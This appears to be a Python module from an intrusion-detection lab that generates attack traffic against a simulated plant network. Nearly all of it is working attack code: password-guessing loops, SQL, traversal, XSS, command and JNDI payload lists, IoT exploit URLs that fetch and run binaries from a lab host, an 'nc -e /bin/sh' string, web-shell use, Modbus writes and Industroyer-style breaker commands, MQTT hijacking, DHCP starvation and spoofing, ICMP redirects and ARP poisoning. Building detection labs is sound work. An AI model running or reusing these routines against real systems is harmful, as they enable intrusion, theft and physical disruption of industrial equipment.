"""Guessing, injecting, and commands that no one of this plant sends."""

from __future__ import annotations

import base64
import http.client
import os
import socket
import struct
from contextlib import suppress
from urllib.parse import quote, urlencode

from idskit.lab.play.play_names import dhcp_socket, lease, lease_message
from idskit.lab.play.script import RANDOM, TIMEOUT_S, ask, connect, datagrams, line, rest, script

_INJECTIONS = ("' OR 1=1 --", "' UNION SELECT {n},user,pass FROM users --", "'; DROP TABLE t{n} --")
_TRAVERSALS = ("../../../../etc/passwd", "..%2f..%2f..%2fetc/shadow", "....//....//boot.ini")
_SCRIPTINGS = ("<script>alert({n})</script>", '"><img src=x onerror=alert({n})>')
_COMMANDS = (";cat /etc/passwd", "|wget http://10.77.0.66/x{n}.sh", "$(id)", "`nc -e /bin/sh`")
_LOOKUPS = ("${{jndi:ldap://10.77.0.66/a{n}}}", "${{jndi:dns://x{n}.evil.example}}")
_WAYS = {
    "sql": _INJECTIONS,
    "traversal": _TRAVERSALS,
    "scripting": _SCRIPTINGS,
    "command": _COMMANDS,
    "lookup": _LOOKUPS,
}
_FLAWS = (
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+evil)",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://10.77.0.66/m",
    "/GponForm/diag_Form?images/",
    "/shell?cd+/tmp;rm+-rf+*;wget+10.77.0.66/arm7;chmod+777+arm7;./arm7",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.env",
    "/wp-login.php",
    "/HNAP1/",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/actuator/gateway/routes",
)


@script
def guess_web(server: str, count: int, pause: float) -> None:
    """Try passwords at a login form, a connection each."""
    for number in range(count):
        connection = http.client.HTTPConnection(server, 8080, timeout=TIMEOUT_S)
        form = urlencode({"user": "admin", "password": f"password{number}"})
        connection.request("POST", "/login", form)
        connection.getresponse().read()
        connection.close()
        rest(pause)


@script
def stuff_web(server: str, count: int, pause: float) -> None:
    """Try stolen names with their passwords at a login form, over one connection."""
    connection = http.client.HTTPConnection(server, 8080, timeout=TIMEOUT_S)
    for _ in range(2 * count):
        name = f"{os.urandom(4).hex()}@mail.example"
        form = urlencode({"user": name, "password": os.urandom(5).hex()})
        connection.request("POST", "/login", form, {"User-Agent": "Mozilla/5.0"})
        connection.getresponse().read()
        rest(pause / 2)


@script
def guess_telnet(server: str, count: int, pause: float) -> None:
    """Try default passwords by Telnet, as IoT botnets do."""
    for number in range(count):
        with suppress(OSError), connect(server, 23) as connection:
            connection.recv(100)
            for text in ("root", f"password{number}", "admin", "admin"):
                line(connection, text)
        rest(pause)


@script
def guess_mqtt(server: str, count: int, pause: float) -> None:
    """Try passwords at an MQTT broker, a connection each."""
    for number in range(count):
        with suppress(OSError), connect(server, 1883) as connection:
            given = (b"probe", b"admin", f"password{number}".encode())
            body = b"\0\x04MQTT\x04\xc2\0\x3c"
            body += b"".join(struct.pack(">H", len(word)) + word for word in given)
            connection.sendall(b"\x10" + bytes([len(body)]) + body)
            connection.recv(10)
        rest(pause)


@script
def guess_sip(server: str, count: int, pause: float) -> None:
    """Try extensions and passwords of a telephone system."""
    with datagrams(0.2) as out:
        for number in range(3 * count):
            text = (
                f"REGISTER sip:{server} SIP/2.0\r\n"
                f"Via: SIP/2.0/UDP 10.77.0.100;branch=z{number}\r\n"
                f"From: <sip:{100 + number}@{server}>\r\nTo: <sip:{100 + number}@{server}>\r\n"
                f"Call-ID: {number}\r\nCSeq: 1 REGISTER\r\nUser-Agent: friendly-scanner\r\n\r\n"
            )
            ask(out, text.encode(), server, 5060)
            rest(pause / 4)


@script
def inject(server: str, count: int, pause: float, kind: str = "sql") -> None:
    """Try inputs that a weak application runs: SQL, paths, scripts, commands or look-ups."""
    connection = http.client.HTTPConnection(server, 8080, timeout=TIMEOUT_S)
    for number in range(count):
        words = quote(RANDOM.choice(_WAYS[kind]).format(n=number))
        path = RANDOM.choice(("/search?q=", "/item?id=", "/download?file="))
        connection.request("GET", path + words, headers={"User-Agent": "Mozilla/5.0"})
        connection.getresponse().read()
        rest(pause)


@script
def try_flaws(server: str, count: int, pause: float) -> None:
    """Try known flaws of devices, a connection each, as worms do."""
    for _ in range(count):
        connection = http.client.HTTPConnection(server, 8080, timeout=TIMEOUT_S)
        connection.request("GET", RANDOM.choice(_FLAWS), headers={"User-Agent": "Hello, world"})
        connection.getresponse().read()
        connection.close()
        rest(pause)


@script
def use_web_shell(server: str, count: int, pause: float) -> None:
    """Run commands through a file left on a server."""
    for _ in range(count):
        connection = http.client.HTTPConnection(server, 8080, timeout=TIMEOUT_S)
        code = base64.b64encode(b"system('id; ls -la /var/www');" + os.urandom(30)).decode()
        connection.request("POST", "/uploads/x.php", urlencode({"c": code}))
        connection.getresponse().read()
        rest(2 * pause)


@script
def write_modbus(server: str, count: int, pause: float) -> None:
    """Try every function code and write coils: what no station of this plant does."""
    for number in range(count):
        with suppress(OSError), connect(server, 502) as connection:
            for code in (5, 6, 15, 16, 43, 90):
                request = struct.pack(">HHHBBHH", number, 0, 6, 1, code, number, 0xFF00)
                connection.sendall(request)
                connection.recv(300)
        rest(pause)


@script
def find_units(server: str, count: int, pause: float) -> None:
    """Ask every unit of a Modbus gateway what it is."""
    with connect(server, 502) as connection:
        for unit in range(1, 5 * count):
            connection.sendall(struct.pack(">HHHBBBBB", unit, 0, 5, unit & 0xFF, 43, 14, 1, 0))
            connection.recv(300)
            rest(pause / 20)


@script
def switch_breakers(server: str, count: int, pause: float) -> None:
    """Send commands to every address of a substation (as Industroyer did)."""
    with connect(server, 2404) as connection:
        connection.sendall(b"\x68\x04\x07\0\0\0")
        for number in range(3 * count):
            command = b"\x2d\x01\x06\0\x01\0" + struct.pack("<HB", number, 0) + b"\x81"
            head = struct.pack("<BBHH", 0x68, 4 + len(command), number << 1 & 0xFFFF, 0)
            connection.sendall(head + command)
            connection.recv(300)
            rest(pause / 8)


@script
def spy_mqtt(server: str, count: int, pause: float) -> None:
    """Subscribe to everything at a broker, and publish to what others control."""
    with connect(server, 1883) as connection:
        connection.sendall(b"\x10\x0f\0\x04MQTT\x04\x02\0\x3c\0\x03spy")
        connection.recv(10)
        for number, topic in enumerate((b"#", b"$SYS/#")):
            body = struct.pack(">HH", number + 1, len(topic)) + topic + b"\0"
            connection.sendall(b"\x82" + bytes([len(body)]) + body)
        connection.recv(1 << 16)
        for number in range(count):
            topic = f"cmnd/plug{number}/POWER".encode()
            body = struct.pack(">H", len(topic)) + topic + b"OFF"
            connection.sendall(b"\x31" + bytes([len(body)]) + body)
            rest(pause)


@script
def starve_leases(_server: str, count: int, _pause: float) -> None:
    """Take all addresses of a DHCP server, each for a device that does not exist."""
    with dhcp_socket() as out:
        out.settimeout(0.05)
        for _ in range(6 * count):
            mac = b"\x06" + os.urandom(5)
            offer = lease(out, mac, 1)
            if len(offer) > 20:
                lease(out, mac, 3, b"\x32\x04" + offer[16:20], b"\x36\x04\x0a\x4d\x00\x01")


@script
def offer_leases(_server: str, count: int, pause: float) -> None:
    """Answer requests for addresses that others make, with a name server of one's own."""
    with dhcp_socket(67) as out:
        for _ in range(count):
            offer = bytearray(
                lease_message(b"\x02" + os.urandom(5), 2, b"\x06\x04\x0a\x4d\x00\x66")
            )
            offer[0] = 2
            out.sendto(offer, ("255.255.255.255", 68))
            rest(pause)


@script
def redirect(server: str, count: int, pause: float) -> None:
    """Tell a host that another one is the better router (ICMP redirect)."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        for number in range(3 * count):
            inner = struct.pack(">BBHHHBBH", 0x45, 0, 28, number, 0, 64, 17, 0)
            inner += socket.inet_aton(server) + socket.inet_aton("192.0.2.7") + os.urandom(8)
            head = socket.inet_aton("10.77.0.100") + inner
            total = sum(struct.unpack(f">{len(head) // 2}H", head)) + 0x0501
            while total >> 16:
                total = (total & 0xFFFF) + (total >> 16)
            out.sendto(b"\x05\x01" + struct.pack(">H", ~total & 0xFFFF) + head, (server, 0))
            rest(pause / 2)


@script
def claim_addresses(server: str, count: int, pause: float) -> None:
    """Claim others' addresses by ARP, again and again (a man in the middle)."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.bind(("lan0", 0x0806))
        mine = out.getsockname()[4]
        for _ in range(count):
            for claimed in (server, "10.77.0.1", "10.77.0.12"):
                ends = (
                    mine + socket.inet_aton(claimed) + b"\xff" * 6 + socket.inet_aton("10.77.0.100")
                )
                out.send(b"\xff" * 6 + mine + b"\x08\x06\0\x01\x08\0\x06\x04\0\x02" + ends)
            rest(pause)
